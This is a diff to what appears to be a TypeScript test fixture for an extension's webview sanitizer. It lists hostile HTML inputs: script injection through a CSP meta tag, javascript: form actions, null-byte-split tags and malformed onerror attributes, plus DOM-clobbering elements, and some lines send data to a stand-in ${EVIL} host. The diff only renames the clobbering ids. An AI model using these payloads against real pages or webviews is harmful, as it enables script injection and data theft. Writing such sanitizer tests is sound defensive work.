@@ -34,8 +34,9 @@ export const HOSTILE: Readonly<Record<string, string>> = {
   'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${RUN}</script>`,
   'a form that sends': `<form action="${EVIL}/s" id="f"><input name="x"><button formaction="javascript:${RUN}">x</button></form><script>f.submit()</script>`,
   'a link that reports': `<a href="#x" ping="${EVIL}/ping">x</a>`,
-  'names that shadow': `<a id="article"></a><img name="acquireVsCodeApi"><form name="document"><input name="body"></form><a id="trustedTypes"></a>`,
-  'ids that shadow': '<p id="layout">x</p><p id="status">x</p><p id="outline">x</p><p id="found">x</p>',
+  'names that shadow': `<a id="readerArticle"></a><img name="acquireVsCodeApi"><form name="document"><input name="body"></form><a id="trustedTypes"></a>`,
+  'ids that shadow':
+    '<p id="readerLayout">x</p><p id="readerStatus">x</p><p id="readerFound">x</p><p id="readerEnd">x</p>',
   'custom elements': `<x-a onclick="${RUN}" is="script">x</x-a><p is="x-a" onpointerenter="${RUN}">x</p>`,
   'broken attributes': `<a href="x"onmouseover="${RUN}">x</a><img/src="x"/onerror=${RUN}><img src=x:x onerror\n=\n"${RUN}">`,
   'null characters': `<scr\0ipt>${RUN}</scr\0ipt><img src=x on\0error=${RUN}><a href="java\0script:${RUN}">x</a>`,
